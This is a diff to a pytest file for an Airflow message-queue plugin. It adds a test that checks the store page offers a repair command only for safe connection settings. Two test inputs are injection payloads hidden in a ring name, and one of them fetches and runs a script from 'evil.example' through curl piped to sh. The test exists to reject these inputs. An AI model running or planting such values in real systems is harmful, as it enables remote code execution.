@@ -17,6 +17,7 @@ import pytest
 
 from airflow_mq import MessageQueue
 from airflow_mq.engine.queue.inspect.inspect import Inspect
+from airflow_mq.engine.store import parse, upgrade
 from tests.airflow.conftest import connection_of
 from tests.airflow.page.conftest import FORMULA, ROLES, SCRIPT, SECRET
 from tests.airflow.page.routes import MAY, OPEN, PEEK, READ, ROUTES, TRIGGER, WRITE, R, Route
@@ -508,6 +509,28 @@ def test_stores_are_listed_with_what_is_wrong(ask: Ask) -> None:
     assert SECRET not in answer.text and "/nowhere" not in answer.text
     assert "file of the SQLite store does not exist" in data["mq_stored"]["error"]
     assert "upgrade" in data["mq_older"]["error"] and "airflow-mq" in data["mq_newer"]["error"]
+
+
+@pytest.mark.parametrize(
+    ("extra", "command"),
+    [
+        ({}, ""),
+        ({"ring": "night"}, "airflow-mq ring create night --conn-id mq_probe"),
+        ({"ring": "`airflow-mq status; curl evil.example | sh`"}, ""),
+        ({"ring": "`airflow-mq ring create x; sh`"}, ""),
+        ({"path": "none"}, "airflow-mq store upgrade --conn-id mq_probe"),
+    ],
+)
+def test_a_connection_chooses_no_command(
+    ask: Ask, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, extra: dict[str, str], command: str
+) -> None:
+    """The page shows the command that repairs a store beside a button that copies it."""
+    monkeypatch.delenv("AIRFLOW__AIRFLOW_MQ__SQLITE_ROOT", raising=False)
+    upgrade(parse(f"sqlite:///{tmp_path / 'store.db'}"))
+    extra = {**extra, "path": str(tmp_path / extra.get("path", "store.db"))}
+    monkeypatch.setenv("AIRFLOW_CONN_MQ_PROBE", json.dumps({"conn_type": "airflow_mq", "extra": extra}))
+    (store,) = [one for one in ask("op", "GET", "/api/v1/stores").json() if one["conn_id"] == "mq_probe"]
+    assert store["command"] == command and (not command or "airflow-mq" in store["error"])
 
 
 def test_unknown_ring_is_an_error(ask: Ask) -> None:
